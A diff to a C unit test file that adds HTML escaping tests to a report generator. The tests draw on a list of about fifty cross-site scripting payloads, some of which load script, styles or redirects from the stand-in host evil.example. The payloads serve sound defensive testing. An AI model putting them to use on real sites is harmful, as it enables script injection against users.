@@ -10,6 +10,8 @@
 #include <string.h>
 
 #include "core/base/utf8.h"
+#include "core/report/escape.h"
+#include "tests/page.h"
 #include "tests/report_fixture.h"
 
 #define COUNT(table) (sizeof(table) / sizeof((table)[0]))
@@ -19,38 +21,47 @@
     "\",\n=1"
 
 /* Every text of every record is the same attack. */
-static void make_hostile(const struct fields *fields, void *record)
+static void fill(const struct fields *fields, void *record, struct str attack)
 {
     for (size_t i = 0; i < fields->count; i++)
         if (fields->field[i].type == FIELD_TEXT)
-            *(struct str *)((char *)record + fields->field[i].offset) = STR(HOSTILE);
+            *(struct str *)((char *)record + fields->field[i].offset) = attack;
 }
 
-static void tell_hostile(struct report *report)
+static void tell_attack(struct report *report, struct str attack)
 {
     struct document document = {.number = 1};
     struct claim claim = {.number = 1, .direction = DIRECTION_UP, .modality = MODALITY_DENIED};
     struct source source = {.number = 1};
     struct citation cited = {.stance = STANCE_REFUTES};
     struct verdict verdict = {.rating = RATING_INACCURATE};
-    make_hostile(&document_fields, &document);
-    make_hostile(&claim_fields, &claim);
-    make_hostile(&source_fields, &source);
-    make_hostile(&citation_fields, &cited);
-    make_hostile(&verdict_fields, &verdict);
+    fill(&document_fields, &document, attack);
+    fill(&claim_fields, &claim, attack);
+    fill(&source_fields, &source, attack);
+    fill(&citation_fields, &cited, attack);
+    fill(&verdict_fields, &verdict, attack);
     const struct report_citation citations[] = {{&cited, &source}, {&cited, &source}};
     const struct report_claim told = {&claim, citations, 2, &verdict, 1};
-    report->head.version = report->head.generated_at = STR(HOSTILE);
+    report->head.version = report->head.generated_at = attack;
     report_begin(report);
     report_document(report, &document);
     report_claim(report, &document, &told);
+    if (report_has_numbers(report)) {
+        report_numbers(report, &document);
+        report_number(report, &(struct report_number){&claim, RATING_INACCURATE, false});
+    }
     report_end(report);
+}
+
+static void tell_hostile(struct report *report)
+{
+    tell_attack(report, STR(HOSTILE));
 }
 
 static void test_report_sends_no_control_characters_in_any_format(void **state)
 {
     (void)state;
-    for (int format = TEXT; format <= CSV; format++) {
+    for (int format = TEXT; format < FORMATS; format++) {
         struct report report = new_report(format, 80);
         char *text = print(&report, tell_hostile);
         struct str all = str_from(text);
@@ -125,6 +136,87 @@ static void test_report_markdown_links_only_to_web_addresses(void **state)
     }
 }
 
+/* What pages are attacked with: elements, attributes, ends of the place where text stands, other schemes, other encodings. */
+static const char *const attacks[] = {
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "<ScRiPt >alert(1)</sCrIpT >",
+    "<<script>alert(1);//<</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/src=//evil.example></script>",
+    "<script\x0csrc=//evil.example></script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<form action=//evil.example><button>x</button></form>",
+    "<details open ontoggle=alert(1)>",
+    "<body onload=alert(1)>",
+    "\" onmouseover=\"alert(1)",
+    "' onmouseover='alert(1)",
+    "\"><script>alert(1)</script>",
+    "'><script>alert(1)</script>",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "https://x.example/\"onclick=\"alert(1)",
+    "https://x.example/'onclick='alert(1)",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "&lt;script&gt;",
+    "<!-- --><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "]]><script>alert(1)</script>",
+    "<?xml-stylesheet href='//evil.example'?>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "\xC0\xBCscript\xC0\xBE",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "\xEF\xBC\x9Cscript\xEF\xBC\x9E",
+    "\xE2\x80\xA8"
+    "alert(1)",
+};
+
+static void test_report_html_takes_nobody_elses_markup(void **state)
+{
+    (void)state;
+    for (size_t i = 0; i <= COUNT(attacks); i++) {
+        struct report report = new_report(HTML, 0);
+        char *text = NULL;
+        size_t size;
+        report.out = open_memstream(&text, &size);
+        tell_attack(&report, i < COUNT(attacks) ? str_from(attacks[i]) : STR(HOSTILE));
+        fclose(report.out);
+        page_check(text);
+        free(text);
+    }
+}
+
+static void test_report_html_links_only_to_web_addresses(void **state)
+{
+    (void)state;
+    for (size_t i = 0; i < COUNT(attacks); i++)
+        assert_false(escape_links_to(str_from(attacks[i])) && strchr(attacks[i], '"'));
+    assert_true(escape_links_to(STR("https://example.org/a_b?c=d&e=f#g")));
+    assert_false(escape_links_to(STR("//example.org")));
+    assert_false(escape_links_to(STR("mailto:a@example.org")));
+    assert_false(escape_links_to(STR_NULL));
+}
+
 static void test_report_json_keeps_hostile_text_as_it_is(void **state)
 {
     (void)state;
@@ -144,6 +236,8 @@ int main(void)
         cmocka_unit_test(test_report_sends_no_control_characters_in_any_format),
         cmocka_unit_test(test_report_markdown_of_hostile_text_has_no_markup_of_its_own),
         cmocka_unit_test(test_report_markdown_links_only_to_web_addresses),
+        cmocka_unit_test(test_report_html_takes_nobody_elses_markup),
+        cmocka_unit_test(test_report_html_links_only_to_web_addresses),
         cmocka_unit_test(test_report_json_keeps_hostile_text_as_it_is),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
